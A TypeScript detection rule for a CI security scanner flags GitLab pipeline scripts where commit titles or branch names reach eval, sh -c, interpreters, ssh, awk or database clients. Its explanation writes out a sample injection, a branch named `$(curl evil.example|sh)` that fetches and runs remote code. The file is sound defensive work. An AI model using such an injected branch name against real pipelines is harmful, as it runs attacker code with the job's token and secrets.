import type { Rule } from '../../rule.ts';
import { type ForeignVariable, findForeignVariable } from '../../shared/gitlab-foreign-variables.ts';
import { gitlabScriptLines, nameJobs, type ScriptLine } from '../../shared/gitlab-configurations.ts';

/** Commands that read their argument as code once more; the code is the part in the first group. */
const SINKS: readonly (readonly [RegExp, string])[] = [
  [/\beval\s+(?!'[^']*'\s*(?:$|[;&|]))([^\n]{1,2000})/g, 'eval'],
  [/\b(?:ba|da|z|k)?sh\s+(?:-\w+\s+)*-\w*c\s+"((?:[^"\\]|\\.){1,2000})"/g, 'a shell'],
  [/\b(?:python[23]?|ruby|perl|node|php)\s+-(?:c|e|r)\s+"((?:[^"\\]|\\.){1,2000})"/g, 'an interpreter'],
  [/\bssh\s+[^"'\n|;&]{1,300}\s"((?:[^"\\]|\\.){1,2000})"/g, 'the shell of another machine'],
  [/\bawk\s[^"'\n|;&]{0,200}"((?:[^"\\]|\\.){1,2000})"/g, 'awk'],
  [/\b(?:psql|mysql|mariadb|sqlite3)\s[^"'\n|;&]{0,300}"((?:[^"\\]|\\.){1,2000})"/g, 'a database'],
];

interface Injection {
  readonly start: number;
  readonly end: number;
  readonly sink: string;
  readonly variable: ForeignVariable;
}

/** `\$NAME` is left to the inner shell, which reads it as a value. */
function withoutEscaped(code: string): string {
  return code.replace(/\\\$/g, '  ');
}

function findInjection({ text, jobs }: ScriptLine): Injection | undefined {
  for (const [pattern, sink] of SINKS) {
    for (const match of text.value.matchAll(pattern)) {
      const variable = findForeignVariable(withoutEscaped(match[1] ?? ''), jobs);
      if (variable === undefined) continue;
      return { start: match.index, end: match.index + match[0].length, sink, variable };
    }
  }
  return undefined;
}

function describe({ name, origin }: ForeignVariable): string {
  return name === origin ? `$${name}` : `$${name} (it holds $${origin})`;
}

export const rule: Rule = {
  id: 'gitlab-variable-injection',
  title: 'Text of commits and merge requests becomes code',
  severity: 'high',
  confidence: 'high',
  persona: 'regular',
  platforms: ['gitlab'],
  standards: { cicdSec: ['CICD-SEC-4'], cwe: ['CWE-78', 'CWE-94'], cis: ['2.3.1'] },
  description:
    'Looks for predefined variables that others write (messages, titles, names of branches) inside of `eval`, `sh -c "…"`, `python -c "…"`, `ssh host "…"`, `awk "…"` and commands of databases, directly or through `variables:`.',
  why: 'These commands read their argument as code a second time. A branch named `$(curl evil.example|sh)` or such a title runs as a command, with the variables and the token of the job.',
  remedy:
    'Pass the value as an argument instead of code: `sh -c \'echo "$1"\' _ "$CI_COMMIT_TITLE"`; use `CI_COMMIT_REF_SLUG` where a name is enough.',
  references: [
    'https://docs.gitlab.com/ci/variables/predefined_variables/',
    'https://docs.gitlab.com/ci/pipelines/pipeline_security/',
  ],
  aliases: [],

  repository(repository, context) {
    for (const line of gitlabScriptLines(repository)) {
      const found = findInjection(line);
      if (found === undefined) continue;
      const { variable, sink, start, end } = found;
      const { text, jobs } = line;
      context.reportIn(text.source, {
        at: text.span(start, end),
        message: `others write ${describe(variable)}, and ${sink} runs it as code in ${nameJobs(jobs)}`.slice(
          0,
          190,
        ),
        severity: variable.shape === 'text' ? 'high' : 'medium',
        confidence: variable.name === variable.origin ? 'high' : 'medium',
      });
    }
  },
};
